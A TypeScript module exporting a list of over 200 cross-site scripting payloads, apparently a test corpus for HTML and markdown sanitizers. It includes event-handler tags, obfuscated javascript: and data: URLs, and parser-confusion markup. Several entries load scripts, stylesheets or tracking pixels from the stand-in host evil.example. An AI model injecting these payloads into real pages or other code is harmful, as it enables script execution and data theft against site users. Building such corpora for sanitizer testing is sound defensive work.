/** Texts that run a script where a page trusts them: raw HTML, addresses and markdown. */

const HANDLERS = [
  ...["onerror", "onload", "onfocus", "onclick", "onmouseover", "onpointerenter", "ontoggle"],
  ...["onbegin", "onanimationstart", "onscroll", "onloadstart", "onpageshow", "oncanplay"],
];
const TAGS = [
  ...["img src=x", "svg", "video src=x", "audio src=x", "body", "details open", "input autofocus"],
  ...["iframe src=x", "object data=x", "math"],
];
const RUN = "alert(1)";

/** Ways of writing the scheme of a script's address. */
const ADDRESSES = [
  ...["javascript:alert(1)", "JaVaScRiPt:alert(1)", "javascript&colon;alert(1)"],
  ...["java\tscript:alert(1)", "java&Tab;script:alert(1)", "&#106;avascript:alert(1)"],
  ...["&#x6A;avascript&#58;alert(1)", "%6Aavascript:alert(1)", "\u0001javascript:alert(1)"],
  ...["vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", " javascript:alert(1)"],
  ...["data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "javascript://%0aalert(1)"],
];

const MARKUP = [
  ...["<script>alert(1)</script>", "<script src=//evil.example/x.js></script>", "<ScRiPt>alert(1)"],
  ...["</title><script>alert(1)</script>", "--><script>alert(1)</script>", "<svg><script>alert(1)"],
  ...[
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><svg/onload=alert(1)>",
  ],
  ...["<svg><animate onbegin=alert(1) attributeName=x>", "<svg><a href=javascript:alert(1)>x</a>"],
  ...[
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  ],
  ...[
    "<form><button formaction=javascript:alert(1)>x",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;javascript:alert(1)'>",
  ],
  ...[
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
  ],
  ...[
    "<div style=background:url(//evil.example/x)>",
    "<template><script>alert(1)</script></template>",
  ],
  ...["<iframe srcdoc='<script>parent.alert(1)</script>'>", "<embed src=//evil.example/x.swf>"],
  ...[
    "<img src=//evil.example/pixel.png>",
    "![p](https://evil.example/pixel.png)",
    "![](//evil.example/x)",
  ],
  ...[
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<%= alert(1) %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
  ],
];

/** More than 200 texts, each on one line. */
export const SCRIPT_VECTORS: readonly string[] = [
  ...MARKUP,
  ...TAGS.flatMap((tag) => HANDLERS.map((handler) => `<${tag} ${handler}=${RUN}>`)),
  ...ADDRESSES.flatMap((address) => [
    `[x](${address})`,
    `[x](<${address}>)`,
    `![x](${address})`,
    `<${address}>`,
    `<a href="${address}">x</a>`,
    `[x](https://a.example "${address}")`,
  ]),
];
